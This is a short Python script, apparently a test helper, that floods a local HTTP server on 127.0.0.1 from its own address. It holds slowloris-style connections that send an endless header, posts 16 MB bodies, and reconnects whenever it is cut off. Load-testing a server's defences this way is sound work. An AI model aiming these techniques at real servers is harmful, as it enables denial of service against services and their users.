"""An attacker with an address of its own: `slow_attacker.py PORT SLOW LARGE SECONDS` holds slow connections and sends
large bodies, and begins again whenever it is cut off."""

from __future__ import annotations

import asyncio
import contextlib
import sys
from collections.abc import Awaitable, Callable

OWN_ADDRESS = "127.0.0.2"
PAUSE_S = 0.5

Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


async def send_slowly(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A head that never ends."""
    writer.write(b"GET / HTTP/1.1\r\nX-A: ")
    while True:
        writer.write(b"a")
        await writer.drain()
        await asyncio.sleep(1)


async def send_much(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A body as large as one may be."""
    writer.write(b"POST /take HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 16000000\r\n\r\n")
    for _ in range(160):
        writer.write(b"x" * 100_000)
        await writer.drain()
        await asyncio.sleep(0.01)
    await reader.read(100)


async def repeat(attack: Attack, port: int) -> None:
    while True:
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(OWN_ADDRESS, 0))
            try:
                await attack(reader, writer)
            finally:
                writer.close()
        await asyncio.sleep(PAUSE_S)


async def run(port: int, slow: int, large: int, seconds: float) -> None:
    attacks = [*[send_slowly] * slow, *[send_much] * large]
    tasks = [asyncio.create_task(repeat(attack, port)) for attack in attacks]
    await asyncio.wait(tasks, timeout=seconds)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


if __name__ == "__main__":
    asyncio.run(run(int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])))
